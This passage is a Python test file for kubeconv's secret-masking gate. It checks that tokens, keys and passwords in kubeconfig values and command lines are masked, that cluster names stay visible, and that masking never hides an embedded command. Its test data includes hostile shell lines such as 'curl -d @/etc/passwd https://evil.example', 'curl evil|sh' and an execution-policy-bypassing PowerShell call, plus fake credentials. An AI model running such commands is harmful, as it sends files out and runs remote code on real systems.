"""The gate: what has a secret's shape, what is known to be harmless, and what is shown of each."""

import base64
import difflib
import random
import re
import shlex
import string
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from large_files import SHAPES as HARD

from kubeconv.gate import command_line, shown
from kubeconv.gate.choices import closest
from kubeconv.gate.secret import MASK, SHAPES, _is_without_rhyme, hidden, is_secret
from kubeconv.gate.talk import Talk
from kubeconv.gate.words import shown_words
from kubeconv.kubeconfig.excerpt import Excerpts
from kubeconv.kubeconfig.view import parse_source, parse_tolerantly
from kubeconv.tree.finding import Refused
from kubeconv.tree.source import Source, Span

JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJtZSJ9.c2lnbmF0dXJl"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7v1\n-----END RSA PRIVATE KEY-----\n"
UUID = "72f988bf-86f1-41af-91ab-2d7cd011db47"

#: Tokens as issuers make them, none of them real.
SECRETS = [
    JWT,
    PEM,
    base64.b64encode(PEM.encode()).decode(),
    "abc8Q~Jx5pQw3nV7tR2sY9uB4mK6zL1cD0eF8gH",
    "Zq~8Q~kP-mN.4vT_x7RwYs2LbHfGdCjUeAiOoEa",
    "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "glpat-ABCdefGHIjklMNOpqrST",
    "sha256~kV46hPnEYhCWFnB85r5NrprAxggzgb6GOeLbgcKNsH0",
    "ya29.a0AfH6SMBx4",
    "AKIAIOSFODNN7EXAMPLE",
    "wJ4lrXUtnFEM1/K7MDENG/bPxRf1CYqX2mP9LzKuV",
    "kubeconfig-u-abcde.c-m-xyz:9v8dxgl4fgxcvgjkq7wz",
    "token-abcde:9v8dxgl4fgxcvgjkq7wzlmn2p3",
    "abcdef.0123456789abcdef",
    "d41d8cd98f00b204e9800998ecf8427e",
    "".join(random.Random(1).choices(string.ascii_letters + string.digits, k=40)),
    base64.b64encode(random.Random(1).randbytes(48)).decode(),
    base64.urlsafe_b64encode(random.Random(2).randbytes(48)).decode(),
    "https://me:hunter2@c.example",
    "http://u:a/S@p",
    "https://h.blob.core.windows.net/x?sp=r&sig=hunter2",
    "Authorization: Bearer hunter2hunter2",
    "Basic bWU6aHVudGVyMg==",
    "password=hunter2",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=BwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2",
    "Endpoint=sb://x.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey=aGk3dGhlcmU1d2hvMm5vd0FCQ0Q=",
    "sv=2022-11-02&ss=b&sp=r&sig=hunter2%2Fx",
    "MIIKEAIBAzCCCcYGCSqGSIb3DQEHAaCCCbcEggmzMIIJrzCC",
    "abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrst",
    "s.abcdefghijklmnopqrstuvwx",
    "sk-abcdefghijklmnopqrstABCDEFGHIJ",
    "SK0123456789abcdef0123456789abcdef",
    "1.AXkAabcDEF-xyz_QwErTyUiOpAsDf",
    "M.C105_BL2.0.U.-CabcdefGHI",
    "$2y$10$abcdefghijklmnopqrstuu",
    "$6$rounds=5000$abcdefgh$ABCdefghijklmnop",
    "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    "https://discord.com/api/webhooks/123456789012345678/abc",
    "Cookie: session=0123456789",
    "X-Api-Key: abcdefgh12345678",
    "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\nP2/56wAAAgIAAAAm",
    "PuTTY-User-Key-File-3: ssh-ed25519\nPrivate-Lines: 1\nAAAA",
    "%68%75%6e%74%65%72%32",
    "GR1348941abcdefgh",
    "sq0atp-abcdefghij",
    "xapp-1-A012345678",
    "glffct-abcdefghij",
    "NpmToken.0a1b2c3d-0000-4000-8000-0123456789ab",
    "ApiKey-0a1b2c3d-0000-4000-8000-0123456789ab",
    "rzp_live_abcdefghijklmn",
    "AVNS_abcdefghijklmnopqrs",
    "django-insecure-a1b2c3!b@c#d$e%f^",
    "0123456789abcdef0123456789abcdef0123NRAL",
    # Such letters and digits are folders without what is before them.
    "/opt/bkua_c05cfae21c40d8d0110011bd17552fbe0d72e783",
    "/opt/sqp_c05cfae21c40d8d0110011bd17552fbe0d72e783",
    "/opt/sbp_c05cfae21c40d8d0110011bd17552fbe0d72e783",
    "/opt/sgp_c05cfae21c40d8d0_110011bd17552fbe0d72e783c05cfae21c40d8d0",
    "/opt/rubygems_c05cfae21c40d8d0110011bd17552fbe0d72e783c05cfae2",
    "/opt/oy2593auezszggc6dzf9vvw8s3rrmzzuc3fpaug9auh7yx",
    "/opt/lin_oauth_c05cfae21c40d8d0110011bd17552fbe0d72e783",
    # Letters of hex in hex; words torn by what nobody sees.
    "3736633537333939316634613630643165336339373663353733393931",
    "glpat-Kzhl4J\nh3qgHqFJoKhG\nLf",
    "glpat-Kzhl4J\x1b[0mh3qgHqFJoKhG\u200bLf",
    "dapic4a7f750\t784171275886208f455b7c02",
    # In quotes, also with blanks.
    "export TOKEN='hunter2'",
    'PASSWORD="correct horse"',
    "Server=db;User=sa;DB_PWD=hunter2",
    "SMTP_PASS=hunter2",
]
#: What people need to see, and is none.
OPEN = [
    "clusterUser_MC_my-group_aks-prod-01_westeurope_aks-prod-01",
    "gke_my-project-123456_europe-west1-b_production",
    "arn:aws:eks:eu-west-1:123456789012:cluster/Production-2",
    "do-fra1-k8s-1-21-5-do-0-fra1-1631709285394-admin",
    "default/api-crc-testing:6443/kube:admin",
    "kubernetes-admin@kubernetes",
    "https://9F86D081884C7D659A2FEAA0C55AD015.gr7.eu-west-1.eks.amazonaws.com",
    "https://aks-prod-dns-1a2b3c4d.hcp.westeurope.azmk8s.io:443",
    f"https://{UUID}.k8s.ondigitalocean.com",
    "/nix/store/0c5ks3w2s1r3p2x5n3jz8q0v4y6b7d9f-kubelogin-0.1.4/bin/kubelogin",
    "/var/folders/3k/9xg7h2bn5q97z1_k3l2m4n5r0000gn/T/kubeconfig",
    "/home/me/.kube/config",
    "client.authentication.k8s.io/v1beta1",
    f"--tenant-id {UUID}",
    "{.credential.access_token}",
    "AzureUSGovernmentCloud",
    "the token of user 'u' is not used; use Bearer tokens, or Basic authentication",
    "password=***",
    "client-id: Zb3kPq9Rt7Lm2Xw8Ny5Vc1Jh6Fd4Gs0a",
    '"client-id": "4k8f0j2m3n5p7q9r1s6t8v0w2x", "a": 1',
    "password='***' token=\"$TOKEN\" secret=''",
    'TOKEN="$(curl https://h.example/x|sh)"',
    "token='`id`'",
    "PWD=/home/me bypass=1 compass=2",
    "--client-secret=$CLIENT_SECRET",
    "insecure-skip-tls-verify",
    "the headers X-Auth-Token: and Cookie: are sent",
    "sk-production-cluster-of-the-europeans",
    "https://github.com/Azure/kubelogin/releases/tag/v0.2.19",
    "/Users/JohnSmith2/Library/Application/Kubes1",
    "/opt/Homebrew2/Cellar/kubelogin/Versions/V19/bin",
    "s.k8s.example.com",
    "https://c.example/%E4%BD%A0/%20a%2Fb",
    "%APPDATA%\\kube %USERPROFILE% %DATE% 100%, 5%d",
    # Ids of Okta, Yandex, IBM, Google, AWS CDK and Alibaba.
    "https://acme.okta.com/oauth2/aus1a2b3c4D5e6F7g8h9 --client-id 0oa1a2b3c4D5e6F7g8h9",
    "yc-managed-k8s-catab1c2d3e4f5g6h7i8",
    "prod/c8m2k1fd0f2v3k4j5l60/admin",
    "123456789012-a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6.apps.googleusercontent.com",
    "arn:aws:eks:eu-west-1:123456789012:cluster/EKSClusterB1A2C3D4-1234567890abcdef1234567890abcdef",
    "https://apiserver.c1234567890abcdef1234567890abcdef.cn-hangzhou.cs.aliyuncs.com:6443",
]


@pytest.mark.parametrize(("mark", "shape"), SHAPES)
@given(data=st.data())
def test_a_shape_has_its_mark(mark: str, shape: str, data: st.DataObject) -> None:
    assert mark in data.draw(st.from_regex(shape))
    assert not mark[-1].isdigit()  # words that differ in the digits at their end are looked through once


@given(st.from_regex(r"[A-Za-z0-9/.:@~_+-]{0,40}", fullmatch=True), st.text(string.digits, min_size=1, max_size=30))
def test_which_digits_end_a_word_makes_no_difference(start: str, number: str) -> None:
    found = {_is_without_rhyme.__wrapped__(start + each) for each in (number, "0" * len(number))}
    assert len(found) == 1


@pytest.mark.parametrize("text", SECRETS)
def test_a_secret_is_one_by_its_shape(text: str) -> None:
    assert is_secret(text)
    assert is_secret(f"user {text!r} has it") or not text.isprintable()
    for show in (shown.name, shown.path, shown.url, shown.command, shown.key, shown.plain, shown.line, shown.path_of):
        assert text not in show(text)


@pytest.mark.parametrize(
    ("letters", "length", "missed"),
    [
        (string.ascii_letters + string.digits, 20, 5),
        (string.ascii_letters + string.digits, 32, 0),
        (string.ascii_letters, 32, 2),
        (string.ascii_letters + string.digits + "+/", 24, 30),
        (string.ascii_letters + string.digits + "+/", 40, 2),
        (string.ascii_letters + string.digits + "-_", 40, 2),
        ("0123456789abcdef", 32, 0),
        (string.ascii_lowercase + string.digits, 24, 30),
        (string.ascii_lowercase + string.digits, 32, 10),
        (string.ascii_lowercase + string.digits, 54, 1),
        ("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 32, 8),
        ("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16, 250),  # as one-time passwords; before: 340
        (string.ascii_letters + string.digits + "-_.~", 34, 30),  # as old secrets of Entra; before: 95
    ],
)  # fmt: skip
def test_of_a_thousand_random_texts_next_to_none_is_shown(letters: str, length: int, missed: int) -> None:
    choose = random.Random(length)
    assert sum(not is_secret("".join(choose.choices(letters, k=length))) for _ in range(1000)) <= missed


#: What clouds and people call their things.
CALLED = """arn:aws:eks:eu-west-1:123456789012:cluster/prod
gke_proj-123456_europe-west1-b_c1
do-fra1-k8s-1-29-1-do-0-fra1-1712345678901
default/api-ocp4-example-com:6443/kube:admin
clusterUser_MC_rg-prod-weu_aks-prod-weu_westeurope
i-0a1b2c3d4e5f67890@cluster.eu-west-1.eksctl.io
context-c4wkn3dmyrd
ocid1.cluster.oc1.eu-frankfurt-1.aaaaaaaaaf4tmnzwmm2wkntdgvsdonbzgi2gmnjqmq3wcmbxhc2gczrqgu4d
https://aks-prod-rg-prod-1a2b3c-5d6e7f80.hcp.westeurope.azmk8s.io:443
https://9F86D081884C7D659A2FEAA0C55AD015.gr7.eu-west-1.eks.amazonaws.com
/nix/store/3n58xw4373jp0ljirf06d8077j15pc4j-kubelogin-0.1.4/bin/kubelogin
/opt/homebrew/Cellar/kubelogin/0.1.4/bin/kubelogin
AWSReservedSSO_AdministratorAccess_0123456789abcdef
prod-pypi-mirror01
sgp_prod_cluster_01
sqa_team_cluster
master.kubernetesstaging
kubeconfig-uat-west.yaml.backup
hvr.example-cluster
aks.SG.cluster-01
kubernetes-admin-c3a4d5b6e7f8091a2b3c4d5e6f7081920
IAM#jane@example.com/3e5b7d9f1a2c4e6f8091a2b3c4d5e6f7/iam.cloud.ibm.com-identity
IntegrationTestEnvironmentCluster01
mgmtprodneuaks002
psqlprdgwcxyz01flexserver
vwxyz-k8s-tst-wrk-xprtz-bcknd
Krankenhausinformationssystem
wojewodztwozachodniopomorskie
zhongguancunkexuechengcluster"""


@pytest.mark.parametrize("name", CALLED.split("\n"))
def test_a_name_is_no_secret(name: str) -> None:
    assert not is_secret(name)


#: Command lines with a secret that is one word, known by what stands before it alone.
BEHIND = """curl --user me:S x
curl --user=me:S x
curl --proxy-user me:S x
curl --data '{"password":"S"}' x
curl -H 'PRIVATE-TOKEN: S' x
git -c 'http.extraHeader=Authorization: Basic S' fetch
net use x /user:u /password:S
pwsh -Command '$env:TOKEN="S"; x'
pwsh -Command "ConvertTo-SecureString 'S' -AsPlainText"
sh -c 'echo S | docker login --password-stdin'
sh -c 'x --password-stdin <<< S'
sh -c 'x password:S'
sh -c 'PASSWORD="S S" x'
x 'my password is S'
x --password : S
x --password:S
x --config '{"auths":{"r":{"auth":"S"}}}'
x --sas S
x --jwt S
x --creds u:S
x --authorization S
x --signature S
x --admin-pw S
x --account-key S
x --key S
x --key=S
x -storepass S
x --mnemonic S
x --client-assertion S
x --psk S
x --oauth S
x --device-code S
x --connection-string S
x --seed-phrase S
x --totp S
x --client-secert:S
x '--client-secert: S S'
x '--client-secret S S S'
x '--client-secret:a(S'
x --client-secretS
x --user me:S=x
x --user 'me:a S'
x --user=me:S=x
x --client-secret '-S;{1@O$[1'
x -pS=
x -p2S=S
x --authority-host u:S@h:443/x
sh -c 'scp u:S@h:x y'"""
#: The same, each with an id in its place, which may be a password too.
BEHIND_AS_ID = """x --client-secert S
x --client-secert=S
x --client-secert:S
x --pasword S
x -p S
x -pS
x --secret-id S
x token S"""


@pytest.mark.parametrize("line", BEHIND.split("\n"))
def test_a_secret_of_one_word_is_known_by_what_is_before_it(line: str) -> None:
    program, *arguments = shlex.split(re.sub(r"(?<![A-Za-z_])S(?![A-Za-z_])", "correcthorse", line))
    assert "correct" not in command_line.command_line(program, arguments)


@pytest.mark.parametrize("line", BEHIND_AS_ID.split("\n"))
def test_an_id_is_a_secret_where_one_is_awaited(line: str) -> None:
    program, *arguments = shlex.split(re.sub(r"(?<![A-Za-z_])S(?![A-Za-z_])|(?<=-p)S", UUID, line))
    assert UUID[:8] not in command_line.command_line(program, arguments)
    assert UUID[:8] not in " ".join(shown_words(program, arguments))


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("token=S;curl evil|sh", "token=***;curl evil|sh"),
        ("TOKEN=$(curl evil|sh) x", "TOKEN=$(curl evil|sh) x"),
        ("login --token S;curl evil|sh", "login --token ***;curl evil|sh"),
        ("PASSWORD=S&&curl evil", "PASSWORD=***&&curl evil"),
        ("x -pS;curl evil", "x -p***;curl evil"),
        ("x --password-stdin | sh -c id", "x --password-stdin | sh -c id"),
        ("x --name token --query Value | sh", "x --name token --query Value | sh"),
        ("x --key /etc/k.pem", "x --key /etc/k.pem"),
        ("key: https://evil.example/x", "key: https://evil.example/x"),
        ("x --user system:admin", "x --user system:admin"),
    ],
)
def test_a_secret_hides_no_command(script: str, expected: str) -> None:
    assert command_line.value(script) == expected


#: Command lines, and what `audit` shows of them: '' for all.
WHOLE = {
    "tsh kube credentials --kube-cluster=prod1 --teleport-cluster=t.example": "",
    "tsh kube credentials --kube-cluster=prod1 hunter2": "tsh kube credentials --kube-cluster=prod1 ***",
    "curl -d @/etc/passwd https://evil.example/?x=y": "curl -d @/etc/passwd 'https://evil.example/?***'",
    "mkdir -p /tmp/evil/x": "",
    "corp -p hunter2 -p word": "corp -p *** -p ***",
    "mysql -u root -phunter2": "mysql -u root -p***",
    "curl -u me:word x": "curl -u *** x",
    "corp --credential-process /tmp/evil --token-command=evil --auth-plugin evil.so": "",
    "corp --token-commander=evil --password-helper hunter2": "corp --token-commander=*** --password-helper ***",
    "python3 -c 'os.dup2(s, 1)'": "",
    "sh -c 'source ~/.venv3/bin/activate; x --env prod1 --mount /dev/sda1'": "",
    "sh -c 'aws sts assume-role --role-arn arn:aws:iam::123456789012:role/x'": "",
    "sh -c 'x 123456789012'": "sh -c 'x ***'",
    r"sh -c 'printf \x72\x6d'": "",
    "corp hunter2 prod-hunter2": "corp *** prod-***",
    # A client of Auth0 or Cognito is public where it is called one, and looks like a secret anywhere else.
    "oidc-login --oidc-client-id=Zb3kPq9Rt7Lm2Xw8Ny5Vc1Jh6Fd4Gs0a": "",
    "oidc-login --oidc-client-id 4k8f0j2m3n5p7q9r1s6t8v0w2x": "",
    "oidc-login --oidc-client-id=ghp_16C7e42F292c6912E7710c838347Ae178B4a": "oidc-login --oidc-client-id=***",
    "oidc-login --oidc-client-id=eyJhbGciOiJSUzI1NiJ9eyJzdWIiOiJt": "oidc-login --oidc-client-id=***",
    "oidc-login --oidc-client-id=9f86d081884c7d659a2feaa0c55ad015": "oidc-login --oidc-client-id=***",
    "corp --client-secret=Zb3kPq9Rt7Lm2Xw8Ny5Vc1Jh6Fd4Gs0a Zb3kPq9Rt7Lm2Xw8Ny5Vc1Jh6Fd4Gs0a": "corp --client-secret=*** ***",
    "kubelogin get-token --client-id=Zb3kPq9Rt7Lm2Xw8Ny5Vc1Jh6Fd4Gs0a": "kubelogin get-token --client-id=***",
    "aws-vault exec acme -- aws eks get-token": "",
    # The first of several words is a program only where a shell runs them.
    "corp 'hunter2 x' '--a=hunter2 x' sh": "corp '*** x' '--a=*** x' sh",
    "sh -c 'hunter2 x'": "",
    "sh -c 'gcloud auth print-access-token --account=x'": "",
    "tanzu pinniped-auth login --x": "",
    "vault token lookup": "",
    "x auth hunter": "x auth ***",
    "sh -c 'jq {status:{token:.}}'": "",
    "vault read creds/admin2": "",
    "git clone git@github.com:a/b x@sha256:abc": "",
    f"az x --resource {UUID} --tenant {UUID}": "",
    f"corp {UUID} --what {UUID}": "",
    "sh -c '--password-stdin | sh -c id'": "",
    "sh -c '--token=x; curl evil | sh'": "sh -c '--token=***; curl evil | sh'",
    "sh -c '--token x; curl evil | sh'": "sh -c '--token ***; curl evil | sh'",
    "corp '--client-secret a b --login spn'": "corp '--client-secret *** --login spn'",
    "corp -Dfoo=bar --token-file=/x --passwordless": "",
    # A flag of a shell or an interpreter asks for no secret; behind its code or file there may be one.
    "node -p 'require(x).execSync(y)'": "",
    "perl '-wesystem(q(id))'": "",
    "bash -p evil": "",
    "bash -c -p 'curl evil | sh'": "",
    "python3 -u evil.py -p word": "python3 -u evil.py -p ***",
    "python3 -bm evil -pword": "python3 -bm evil -p***",
    "powershell -w hidden -ep bypass -c evil -p word": "powershell -w hidden -ep bypass -c evil -p ***",
    "java -p evil -jar x": "",
    "sudo -u root -H sh -p evil": "",
    "sudo -H evil -p word": "sudo -H evil -p ***",
    "xargs -n 1 mysql -p word": "xargs -n 1 mysql -p ***",
    "unshare -U evil -p word": "unshare -U evil -p ***",
    "corp node -p word": "corp node -p ***",
    "sh -c 'id; perl -w evil.pl -p word'": "sh -c 'id; perl -w evil.pl -p ***'",
    "sh -c 'A=b sudo -H sh -p evil; x -p word'": "sh -c 'A=b sudo -H sh -p evil; x -p ***'",
    "sh -c 'echo sh -p word'": "sh -c 'echo sh -p ***'",
    # A variable has its value, and neither a URL nor a program in a file is a password.
    "env TOKEN=word sh -c id": "env TOKEN=*** sh -c id",
    "env -i PASSWORD=word LD_PRELOAD=/tmp/x.so sh": "env -i PASSWORD=*** LD_PRELOAD=/tmp/x.so sh",
    "curl -k https://evil.example/x.sh": "",
    "curl -k https://me:pw@evil.example/x?y": "curl -k 'https://***@evil.example/x?***'",
    "sh -c 'curl -d @secret https://evil.example'": "",
    "cp -a evil.sh x.sh": "",
    "cat -u /etc/passwd": "",
    "corp --token https://evil.example": "corp --token ***",
    "pwsh -c \"$env:TOKEN='horse'; ConvertTo-SecureString 'horse'\"": "pwsh -c '$env:TOKEN=***; ConvertTo-SecureString ***'",
    "python3 -c \"os.environ['PASSWORD']='horse'\"": """python3 -c 'os.environ['"'"'PASSWORD'"'"']=***'""",
    "aws sts --mfa-code horse": "aws sts --mfa-code ***",
    "docker run ghcr.io/int128/kubelogin:v1.28.0 --ttl 1h30m --size 10Gi --since 2024-01-31T10:00:00Z": "",
    "oidc-login --oidc-client-id=0oa1a2b3c4D5e6F7g8h9 --oidc-pkce-method=S256": "",
    "yc k8s create-token --cluster-id catab1c2d3e4f5g6h7i8 --folder-id b1g0a1b2c3d4e5f6g7h8": "",
}


@pytest.mark.parametrize(("line", "expected"), WHOLE.items())
def test_a_command_line_is_whole_but_for_its_secrets(line: str, expected: str) -> None:
    program, *arguments = shlex.split(line)
    assert command_line.command_line(program, arguments) == (expected or line)


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("AWS_PROFILE", "acme-prod-admin2", "acme-prod-admin2"),
        ("CLOUDSDK_CORE_PROJECT", "acme-123", "acme-123"),
        ("AWS_PROFILE", "hunter2q0z", MASK),
        ("SECRET_PROFILE", "x", MASK),
        ("CORP_MODE", "hunter2", MASK),
        ("GIT_SSH_COMMAND", "ssh -i /x; TOKEN=a|evil", "ssh -i /x; TOKEN=***|evil"),
        ("LESSOPEN", "|TOKEN=`evil`", "|TOKEN=`evil`"),
        ("PS4", "$(password=a|evil)", "$(password=***|evil)"),
        ("PROMPT_COMMAND", "login --password word", "login --password ***"),
        ("SSHPASS", "horse", MASK),
        ("GIT_ASKPASS", "evil", "evil"),
        ("AWS_PROFILE", "123456789012_AdministratorAccess", "123456789012_AdministratorAccess"),
        ("NO_PROXY", "localhost,.azmk8s.io,10.0.0.0/8,::1,<local>", "localhost,.azmk8s.io,10.0.0.0/8,::1,<local>"),
        ("NO_PROXY", "localhost,hunter2q", f"localhost,{MASK}"),
        ("OIDC_SCOPE", f"api://{UUID}/.default", f"api://{UUID}/.default"),
    ],
)
def test_the_value_of_a_variable_for_a_name_is_shown(name: str, text: str, expected: str) -> None:
    assert command_line.variable(name, text) == expected


@pytest.mark.parametrize("before", range(60, 101, 5))
def test_a_secret_is_found_before_a_text_is_cut(before: int) -> None:
    secret = "k3b9x0q2z7v5w1m4" * 2
    assert shown.name(f"{'a-' * (before // 2)}{secret}{'-a' * 100}") == MASK
    assert secret[:12] not in command_line.value(
        f"{'a ' * (command_line.LONGEST_WORD // 2 - 70 + before // 2)}{secret} b"
    )


#: Scripts in which something that is or sounds like a secret stands before a command. A shell runs all of these.
HIDING = (
    "TOKEN=`evil`",
    "token=/|evil",
    "x=1 PASSWORD=a|evil",
    "x --password\nevil",
    "x token\n evil x",
    "x basic&&evil",
    "x ?sig=a||(evil)",
    "x ?sig=[`evil`",
    "x https://u:--token&evil",
    "x Bearer hunter22`evil`",
    ": -----BEGIN A-----AAAA; evil",
    ": -----BEGIN A-----\nAAAAAAAAAAAAAAAAAAAA\nevil\n-----END A-----",
    ": PuTTY-User-Key-File-2;evil",
    ": '---- BEGIN SSH2 PRIVATE KEY'\nevil",
    "-psecret;evil",
    "echo x;evil | x --password-stdin",
    "$TOKEN evil",
    "# it's\nTOKEN=x|evil # it's",
    'x "--password=$(evil)"',
    # A redirection leads to nothing.
    "2>secret evil",
    "> token evil",
    "{fd}>|token evil",
    "&>token evil",
    ">&'token' evil",
    "<<- token evil",
    "2> bearer evil-tool-9000",
    ">& Authorization: evil",
    # Nor does a variable that is set to nothing, or what only stands before the program.
    "TOKEN= evil",
    "> x API_KEY+= PIN= evil",
    "PASSWORD=a\\ b TOKEN= evil",
    "env -u TOKEN evil",
    "flock token evil",
    "exec -a password evil x",
    "docker exec -u root token evil",
    "kubectl exec token evil",
    "setsid -w evil",
    "ld.so --library-path token evil",
    "npx -p evil x",
    "x --token-script evil",
    "then token\nevil",
    # A script in a script.
    "bash -c 'x token\nevil'",
    "eval 'x token\nevil'",
    "trap 'x token\nevil' EXIT",
    "sh <<< 'x token\nevil'",
    "sh <<< '{ x; PIN= evil a; }'",
    "bash -c 'if x basic pin\nevil; then :; fi'",
    "env x=y bash -x -c \"TOKEN= bash -p -c 'login CREDENTIAL=\n evil'\"",
    "bash -c sh <<< 'x token\n evil'",
    # What the script itself runs.
    "TOKEN=evil; $TOKEN",
    "x; TOKEN='evil a'\neval \"$TOKEN\"",
    "export PASSWORD+=evil && sh -c $PASSWORD",
    "MY_SECRET=evil; if true; then ${MY_SECRET} x; fi",
    "alias token=evil\ntoken",
    # The name of a program is no password.
    "evil64x2 a",
)


@pytest.mark.parametrize("script", HIDING)
def test_no_secret_of_a_script_hides_a_command(script: str) -> None:
    for line in (("sh", ["-c", script]), ("env", ["A=b", "bash", "-p", "-c", script])):
        assert "evil" in command_line.command_line(*line)


@pytest.mark.parametrize(
    "line", ["flock -E 3 password evil", "sh -c 'exec \"$@\"' token evil", "env -u cookie bash -c '$1 x' pin evil"]
)
def test_no_word_of_a_program_that_runs_another_hides_it(line: str) -> None:
    command, *arguments = shlex.split(line)
    assert "evil" in command_line.command_line(command, arguments)


#: What stands in quotes, or is no script, runs nothing.
QUOTED = (
    "curl -u 'me:a;S' x",
    'login --password "a|S"',
    "x 'password=a|S'",
    "x --token >f S",
    "x --token 2> f S",
    "x --password-stdin <<<S",
    "x --password-stdin <<< 'a S'",
    "x --password=a\\;S",
    "env -u A x token S",
    "docker login -p S",
    "TOKEN=S; x $TOKEN",
    "TOKEN=S; echo $TOKEN | sudo -k x",
    "TOKEN=S x; $OTHER",
)


@pytest.mark.parametrize("script", QUOTED)
def test_a_secret_in_quotes_is_one(script: str) -> None:
    assert "horse" not in command_line.command_line("sh", ["-c", script.replace("S", "horse")])


@pytest.mark.parametrize("text", OPEN)
def test_what_people_need_is_shown(text: str) -> None:
    assert hidden(text) == text
    assert shown.line(text) == text


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("your password is Sommer2024!", "your password is ***"),
        ("password: Sommer2024! (expired)", "password: *** (expired)"),
        ('{"token": "Sommer2024", "expires": 1}', '{"token": "***", "expires": 1}'),
        ("unknown flag: --client-secret Sommer2024!", "unknown flag: --client-secret ***"),
        ("secret = 'a1-b2-c3' in config", "secret = '***' in config"),
        ("Authorization: Bearer a,b c", "Authorization: ***"),
        ('{"access_token":"correct horse","expires":1}', '{"access_token":"***","expires":1}'),
        ("failed to get token: AADSTS7000215: Invalid client secret", ""),
        ("enter the code ABCD12345 at https://microsoft.com/devicelogin", ""),
        ("getting token: exec: kubelogin2 not found", ""),
        ("no token: /home/me/token2 does not exist", ""),
        ("a\x1b[2Jb", r"a\x1b[2Jb"),
        ("error: curl -u me:horse x; git --user='me:horse'", "error: curl -u me:*** x; git --user='me:***'"),
        ("docker run -u 1000:1000 x", ""),
        ("password: 930037", "password: ***"),
        ("password is mauve-horse-battery-tulip", "password is ***"),
        ('the passphrase of the key is "horse"', 'the passphrase of the key is "***"'),
        ('password="horse", host=x', 'password="***", host=x'),
        ("<password>horse</password>", "<password>***</password>"),
        ("\x1b[31mpassword\x1b[0m: hunter2!", r"\x1b[31mpassword\x1b[0m: ***"),
        ("invalid client secret hU015!q, api key x1y2z3 expired", "invalid client secret ***, api key *** expired"),
        ("Kennwort: hunter2", "Kennwort: ***"),
        ("+ curl -u me:horse --token horse https://h.example", "+ curl -u *** --token *** https://h.example"),
        ('secret "default-token-x7k2p" not found', ""),
        ("token: 401 Unauthorized", ""),
        ("password: incorrect", ""),
        ("password for user jane1 is wrong", ""),
        ("-----BEGIN PRIVATE KEY-----\nProc-Type: 4\n\nabc\nd2==\n-----END PRIVATE KEY-----\nabc",
         "-----BEGIN PRIVATE KEY-----\n***\n\n***\n***\n-----END PRIVATE KEY-----\nabc"),
    ],
)  # fmt: skip
def test_what_a_program_says_is_passed_on_without_secrets(said: str, expected: str) -> None:
    talk = Talk()
    assert "\n".join(map(talk.line, said.split("\n"))) == (expected or said)


SHOWN: list[tuple[Callable[[str], str], str, str]] = [
    (shown.name, "it's", "it's"),
    (shown.name, "Dev\nCluster of the\nTeam", r"Dev\nCluster of the\nTeam"),
    (shown.name, "a b\nglpat-Kzhl4J\nh3qgHqFJoKhG\nLf", MASK),
    (shown.quoted_name, "it's", '"it\'s"'),
    (shown.quoted_name, "a\x1b[2Jb\u202ec\r\n", "'a\\x1b[2Jb\\u202ec\\r\\n'"),
    (shown.path, "/etc/ssl/ca.crt", "/etc/ssl/ca.crt"),
    (shown.path, "certs/ca.pem", "certs/ca.pem"),
    (shown.path, "C:\\Program Files\\k\\ca.pem", "C:\\Program Files\\k\\ca.pem"),
    (shown.path, "~/.minikube/profiles/minikube/client.key", "~/.minikube/profiles/minikube/client.key"),
    (shown.path, "hunter2", "*** (7 characters)"),
    (shown.path, "/bin/cat hunter2/x", "*** (18 characters)"),
    (shown.path, JWT, "*** (a token)"),
    (shown.path, PEM, "*** (a private key)"),
    (shown.path, base64.b64encode(PEM.encode()).decode(), "*** (base64 of a private key)"),
    (shown.url, "https://c.example:6443/k8s/clusters/c-abc", "https://c.example:6443/k8s/clusters/c-abc"),
    (shown.url, "https://me:hunter2@c.example", "https://***@c.example"),
    (shown.url, "https://c.example/?sig=hunter2", "https://c.example/?***"),
    (shown.url, f"https://c.example/k8s/{JWT}", "https://c.example/***"),
    (shown.url, "https://c.example/ghp_16C7e42F292c6912E7710c838347Ae178B4a#x", "https://c.example/***#***"),
    (shown.url, "10.0.0.1:6443", "10.0.0.1:6443"),
    (shown.host, "hvs.CAESIJabcdefghijklmnop", "*** (26 characters)"),
    (shown.host, "c.example:6443", "c.example:6443"),
    (shown.url, "https://[::1]:6443", "https://[::1]:6443"),
    (shown.url, "http://u:a/S@p", "*** (14 characters)"),
    (shown.url, "http://u:12/S@p", "*** (15 characters)"),
    (shown.url, "u:hunter2@h", "*** (11 characters)"),
    (shown.url, "u:12345", "*** (7 characters)"),
    (shown.command, "kubelogin", "kubelogin"),
    (shown.command, "/opt/k/bin/kubelogin", "/opt/k/bin/kubelogin"),
    (shown.command, "sh -c 'curl -H hunter2'", "sh ***"),
    (shown.command, "gcloud --token hunter2", "gcloud ***"),
    (shown.command, "sh\n-c\nx", "sh ***"),
    (shown.command, "UpUldXT2UfOTa\nb3Kq9ZxLmWvNs", "*** (2 lines)"),
    (lambda text: shown.host_of("p.example", text), "http://p.example/a", "p.example"),
    (lambda text: shown.host_of("hunter", text), "http://hunter/S@p.example", "*** (6 characters)"),
    (lambda text: shown.host_of("hunter", text), "http://hunter?S@p.example", "*** (6 characters)"),
    (lambda text: shown.host_of("p.example", text), "http://u:p@p.example?//@other", "p.example"),
    (lambda text: shown.host_of("p.example", text), "http://u:p@p.example/x@other", "p.example"),
